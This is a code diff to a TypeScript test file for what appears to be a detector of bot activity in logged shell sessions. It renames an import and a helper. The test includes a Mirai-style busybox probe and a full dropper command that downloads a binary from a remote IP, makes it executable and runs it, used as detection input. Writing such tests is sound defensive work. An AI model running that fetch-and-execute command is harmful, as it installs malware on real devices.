@@ -4,7 +4,7 @@ import { hex } from '#bytes/hex'
 import { mangled } from '#bytes/mangle'
 import { ByteWriter } from '#bytes/write'
 import type { Fact } from '#model/fact'
-import { type Sent, saidInStream, sliceOf } from '#model/specimen'
+import { type Sent, saidInStream, sliceOf } from '#model/test-slice'
 import { protocol } from './index.ts'
 
 const stream = (...parts: readonly Sent[]) => saidInStream(protocol, parts)
@@ -57,14 +57,14 @@ test('damaged messages end', () => {
 })
 
 test('what bots type is told, what people type is not', () => {
-  const deeds = (line: string) =>
+  const activities = (line: string) =>
     stream(...logon, s('\r\n# '), c(`${line}\r\n`)).flatMap((fact) =>
       fact.kind === 'anomaly' ? [fact.detail] : [],
     )
-  assert.deepEqual(deeds('/bin/busybox MIRAI'), ['asks for a program that is not there, as Mirai does'])
-  assert.deepEqual(deeds('cd /tmp; wget http://1.2.3.4/m.arm7 -O - > x; chmod 777 x; ./x'), [
+  assert.deepEqual(activities('/bin/busybox MIRAI'), ['asks for a program that is not there, as Mirai does'])
+  assert.deepEqual(activities('cd /tmp; wget http://1.2.3.4/m.arm7 -O - > x; chmod 777 x; ./x'), [
     'fetches a program and runs it',
   ])
-  assert.deepEqual(deeds('show running-config'), [])
-  assert.deepEqual(deeds('/bin/busybox wget -h'), [])
+  assert.deepEqual(activities('show running-config'), [])
+  assert.deepEqual(activities('/bin/busybox wget -h'), [])
 })
